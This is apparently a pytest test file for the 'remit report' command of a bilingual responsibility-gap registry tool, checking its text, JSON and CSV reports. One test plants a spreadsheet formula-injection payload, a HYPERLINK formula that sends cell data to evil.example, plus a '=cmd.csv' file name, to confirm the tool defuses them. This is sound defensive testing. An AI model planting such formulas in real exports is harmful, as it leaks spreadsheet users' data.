"""`remit report`: the gap list as text, JSON and CSV, in zh and en."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from generator.cli import main

ROOT = Path(__file__).resolve().parents[2]
GOLDEN = Path(__file__).resolve().parents[1] / "checks" / "golden_checks"


def d3_lighting_due() -> tuple[int, int]:
    """Line and column of the due date of road D3's lighting handover in the example."""
    lines = (ROOT / "directory" / "assets-roads.yaml").read_text(encoding="utf-8").splitlines()
    road = lines.index("  - id: road-d3")
    lighting = next(i for i in range(road, len(lines))
                    if lines[i].strip() == "duties: [lighting, energy-bill]")
    due = next(i for i in range(lighting, len(lines)) if lines[i].strip().startswith("due:"))
    return due + 1, lines[due].index("due:") + 6


def report(args: list[str], capsys: pytest.CaptureFixture[str],
           cwd: Path = ROOT, monkeypatch: pytest.MonkeyPatch | None = None) -> tuple[int, str]:
    if monkeypatch is not None:
        monkeypatch.chdir(cwd)
    rc = main(["report", "--today", "2026-01-01", *args])
    return rc, capsys.readouterr().out


def test_text_report_groups_by_kind_in_site_language(capsys: pytest.CaptureFixture[str]
                                                     ) -> None:
    rc, out = report([str(ROOT / "directory")], capsys)
    assert rc == 0
    lines = out.splitlines()
    assert lines[0] == "责任空白报告（截至 2026-01-01）：5 处待处理，1 处已说明理由接受"
    heads = [x for x in lines if x.startswith("## ")]
    assert heads == [
        "## 必需职责无人承担（0 处，1 处已接受） [missing-duty]",
        "## 移交未完成且无过渡期责任单位（1 处） [handover-no-interim]",
        "## 移交逾期（1 处） [handover-overdue]",
        "## 职责争议逾期未裁定（1 处） [dispute-overdue]",
        "## 联系方式超期未核实（1 处） [stale-contact]",
        "## 只写“指导、参与、协调”而未写明牵头单位（1 处） [lead-missing]",
    ]
    i = lines.index("## 移交逾期（1 处） [handover-overdue]")
    line, col = d3_lighting_due()
    assert lines[i + 2].endswith(f"directory/assets-roads.yaml:{line}:{col}  road-d3")
    assert "共 185 天仍未验收" in lines[i + 3]
    assert any(x.startswith("  (已接受，理由: 管道已建成") for x in lines)


def test_text_report_in_english(capsys: pytest.CaptureFixture[str]) -> None:
    rc, out = report([str(ROOT / "directory"), "--lang", "en"], capsys)
    assert rc == 0
    assert out.startswith("Responsibility gaps as of 2026-01-01: 5 open, 1 accepted\n")
    assert "## Handovers past their due date (1 open) [handover-overdue]" in out
    assert "is 185 days past its due date 2025-06-30" in out


def test_csv_for_a_spreadsheet(capsys: pytest.CaptureFixture[str]) -> None:
    rc, out = report([str(ROOT / "directory"), "--format", "csv"], capsys)
    assert rc == 0
    assert "\r\n" in out and out.startswith("\ufeffkind,")  # every CSV remit writes has a BOM
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
    assert [r["kind"] for r in rows] == ["missing-duty", "handover-no-interim",
                                         "handover-overdue", "dispute-overdue",
                                         "stale-contact", "lead-missing"]
    over = rows[2]
    assert over["id"] == "road-d3" and over["days"] == "185" and over["status"] == "open"
    assert (over["file"], over["line"], over["col"]) == (
        "directory/assets-roads.yaml", *map(str, d3_lighting_due()))
    assert over["title"] == "移交逾期" and "185 天" in over["message"]
    acc = rows[0]
    assert acc["status"] == "accepted" and acc["reason"].startswith("管道已建成")
    rc, out = report([str(ROOT / "directory"), "--format", "csv", "--bom"], capsys)
    assert out.startswith("\ufeffkind,title,status,")


def test_csv_keeps_exact_lines_and_expands(capsys: pytest.CaptureFixture[str],
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    case = GOLDEN / "unowned-minor-aggregated"
    rc, out = report([".", "--format", "csv", "--lang", "en"], capsys, case, monkeypatch)
    rows = list(csv.DictReader(io.StringIO(out)))
    group = next(r for r in rows if r["id"] == "slc-1" and r["file"] == "lamps.csv")
    assert group["count"] == "7" and group["lines"] == "2-7, 9"
    rc, out = report([".", "--format", "csv", "--expand"], capsys, case, monkeypatch)
    rows = list(csv.DictReader(io.StringIO(out)))
    lamps = [r for r in rows if r["file"] == "lamps.csv" and r["status"] == "open"]
    assert [(r["id"], r["line"]) for r in lamps] == [
        ("lamp-1-001", "2"), ("lamp-1-002", "3"), ("lamp-1-003", "4"), ("lamp-1-004", "5"),
        ("lamp-1-005", "6"), ("lamp-1-006", "7"), ("lamp-1-008", "9"), ("lamp-x-001", "15")]


def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """Registry text that starts a cell (an accepted gap's reason, a source file's name) is
    written so no spreadsheet runs it; dropping one leading apostrophe gives it back."""
    reason = '-1+HYPERLINK("http://evil.example/?x="&A1,"x")'
    (tmp_path / "=cmd.csv").write_text("lamp_no,label\nlamp-1,路灯 1\n", encoding="utf-8")
    (tmp_path / "departments.yaml").write_text(
        "site: {title: t, language: en}\n"
        "departments:\n  - id: roads\n    name: Roads\n"
        "    contacts: [{role: desk, phone: '0851-0000-0001'}]\n"
        "assets:\n  - id: road-1\n    name: Road 1\n    type: road\n    owner: roads\n"
        "    duties: {maintenance: roads, cleaning: roads}\n"
        f"    accepted_gaps: [{{finding: missing-duty, reason: {json.dumps(reason)}}}]\n"
        "asset_sources:\n  - file: =cmd.csv\n    type: street-lamp\n"
        "    columns: {id: lamp_no, name: label}\n",
        encoding="utf-8")
    rc, out = report([".", "--format", "csv"], capsys, tmp_path, monkeypatch)
    assert rc == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    accepted = next(r for r in rows if r["status"] == "accepted")
    assert accepted["reason"] == "'" + reason
    lamp = next(r for r in rows if r["id"] == "lamp-1")
    assert lamp["file"] == "'=cmd.csv"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_json(capsys: pytest.CaptureFixture[str]) -> None:
    rc, out = report([str(ROOT / "directory"), "--format", "json"], capsys)
    data = json.loads(out)
    assert data["today"] == "2026-01-01" and data["language"] == "zh"
    assert data["kinds"]["handover-overdue"] == {"open": 1, "accepted": 0, "title": "移交逾期"}
    assert data["kinds"]["missing-duty"]["accepted"] == 1
    assert len(data["findings"]) == 6


def test_clean_registry(capsys: pytest.CaptureFixture[str],
                        monkeypatch: pytest.MonkeyPatch) -> None:
    rc, out = report([".", "--lang", "en"], capsys, GOLDEN / "clean", monkeypatch)
    assert rc == 0
    assert out == ("Responsibility gaps as of 2026-01-01: 0 open, 0 accepted\n\n"
                   "No responsibility gaps found.\n")


def test_registry_with_errors_exits_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]
                                      ) -> None:
    (tmp_path / "departments.yaml").write_text("site: {title: t}\ndepartments:\n"
                                               "  - id: Bad Id\n    name: x\n",
                                               encoding="utf-8")
    rc = main(["report", str(tmp_path)])
    cap = capsys.readouterr()
    assert rc == 1 and cap.out == "" and ": error: " in cap.err


def test_usage_error_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["report", "--format", "xlsx"])
    assert exc.value.code == 2
